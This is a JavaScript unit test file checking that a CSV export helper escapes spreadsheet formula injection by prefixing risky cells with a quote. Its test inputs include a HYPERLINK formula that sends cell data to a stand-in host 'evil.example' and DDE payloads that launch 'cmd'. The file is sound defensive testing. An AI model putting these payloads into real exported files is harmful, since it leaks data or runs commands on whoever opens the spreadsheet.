import assert from "node:assert/strict";
import { spreadsheetCell } from "../../local/spreadsheet";

describe("local/spreadsheet", () => {
    for (const text of [
        '=HYPERLINK("http://evil.example/?"&A1)',
        "=1+2",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+2",
        "\r=1+2",
    ]) {
        it(`shows ${JSON.stringify(text)} as text, which a spreadsheet would run`, () => {
            const cell = spreadsheetCell(text);
            const content = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
            assert.equal(content, `'${text}`);
        });
    }

    it("leaves numbers, and texts that only hold such signs, as they are", () => {
        for (const text of ["-5", "+49", "-1.5e3", "a=b", "us", "", "x@example.com", "'quoted"])
            assert.equal(spreadsheetCell(text), text);
    });

    it("quotes what CSV needs quoted", () => {
        assert.equal(spreadsheetCell('a "b", c'), '"a ""b"", c"');
        assert.equal(spreadsheetCell("=a,b"), `"'=a,b"`);
    });
});
